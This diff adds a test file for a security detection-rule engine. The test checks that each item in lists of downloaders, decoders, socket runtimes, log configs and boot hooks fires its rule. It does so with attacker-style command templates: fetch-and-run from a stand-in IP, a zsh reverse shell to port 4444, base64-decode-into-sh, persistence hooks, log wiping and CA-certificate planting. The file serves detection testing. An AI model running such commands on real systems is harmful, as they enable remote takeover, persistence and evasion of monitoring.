@@ -1,0 +1,103 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join, relative } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { formatRuleProblems, loadRuleSet } from './load-rule-set';
+import { exampleEvent } from './run-rule-examples';
+import type { SourceFile } from './types';
+
+/**
+ * Every entry of a knowledge list in rules/lists/ is exercised: each item is put into
+ * command lines that use it the way an attacker would, and the rule that reads the list
+ * must fire on every one of them. Adding an item to a list without a rule that sees it
+ * (or with a rule that only works for the first few items) fails here.
+ *
+ * `{}` in a template is replaced by the list item.
+ */
+interface ListUse {
+  rule: string;
+  templates: string[];
+}
+
+const USES: Record<string, ListUse[]> = {
+  'boot-and-login-hooks': [
+    {
+      rule: 'SW-PER-0013',
+      templates: ["echo '/opt/.x &' >> {}", 'sudo cp /tmp/x {}', 'echo /tmp/.x | sudo tee -a {}'],
+    },
+  ],
+  'ca-anchor-dirs': [
+    { rule: 'SW-DEF-0012', templates: ['sudo cp /tmp/ca.crt {}', 'cp ca.pem {}'] },
+  ],
+  'log-config-files': [
+    {
+      rule: 'SW-DEF-0011',
+      templates: ["echo 'Storage=none' > {}", 'sudo rm -f {}', "sed -i 's/^rotate 4/rotate 0/' {}"],
+    },
+  ],
+  'command-launchers': [{ rule: 'SW-PRV-0003', templates: ['sudo {} /bin/sh', 'sudo {} bash'] }],
+  downloaders: [
+    { rule: 'SW-C2-0003', templates: ['{} http://203.0.113.7/x > /tmp/.x'] },
+    { rule: 'SW-EXE-0014', templates: ['{} http://203.0.113.7/x.sh > x.sh; bash x.sh'] },
+  ],
+  'file-transfer-clients': [
+    {
+      rule: 'SW-C2-0003',
+      templates: ['{} u@203.0.113.7:/srv/x /tmp/.x', '{} u@203.0.113.7:/srv/x /dev/shm/'],
+    },
+  ],
+  'socket-runtimes': [
+    { rule: 'SW-EXE-0015', templates: ["{} -c 'ztcp 203.0.113.7 4444 && exec /bin/sh >&$REPLY'"] },
+  ],
+  'discovery-commands': [
+    { rule: 'SW-DIS-0007', templates: ['{} > /tmp/.out', '{} -a >> /tmp/x 2>&1'] },
+  ],
+  decoders: [
+    {
+      rule: 'SW-EXE-0004',
+      templates: ['echo aWQK | {} -d | sh', 'bash -c "$(echo aWQK | {} --decode)"'],
+    },
+  ],
+};
+
+const ROOT = join(__dirname, '../../../rules');
+
+function jsonFiles(dir: string): SourceFile[] {
+  return readdirSync(dir, { withFileTypes: true, recursive: true })
+    .filter((entry) => entry.isFile() && entry.name.endsWith('.json'))
+    .map((entry) => join(entry.parentPath, entry.name))
+    .map((path) => ({ path: relative(ROOT, path), text: readFileSync(path, 'utf8') }));
+}
+
+function listItems(files: readonly SourceFile[], name: string): string[] {
+  const file = files.find((f) => f.path === `lists/${name}.json`);
+  if (file === undefined) throw new Error(`rules/lists/${name}.json is missing`);
+  return (JSON.parse(file.text) as { items: string[] }).items;
+}
+
+describe('knowledge lists in rules/lists/', () => {
+  const all = jsonFiles(ROOT);
+  const lists = all.filter((f) => f.path.startsWith('lists/'));
+  const rules = all.filter((f) => !f.path.startsWith('lists/') && !f.path.startsWith('schema/'));
+  const loaded = loadRuleSet(rules, lists);
+
+  for (const [name, uses] of Object.entries(USES)) {
+    it(`every item of "${name}" is seen by the rules that use it`, () => {
+      if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
+      const items = listItems(lists, name);
+      expect(items.length).toBeGreaterThan(0);
+      const missed: string[] = [];
+      for (const { rule, templates } of uses) {
+        const file = rules.find((f) => f.path.endsWith(`/${rule}.json`));
+        // the rule really reads the list (a renamed list or a rule rewritten without it fails)
+        expect(file?.text, `${rule} does not read the list ${name}`).toContain(`"${name}"`);
+        for (const item of items)
+          for (const template of templates) {
+            const line = template.replaceAll('{}', item);
+            if (loaded.evaluator.evaluateRule(rule, exampleEvent(line)) === undefined)
+              missed.push(`${rule}: ${line}`);
+          }
+      }
+      expect(missed).toEqual([]);
+    });
+  }
+}, 120_000);
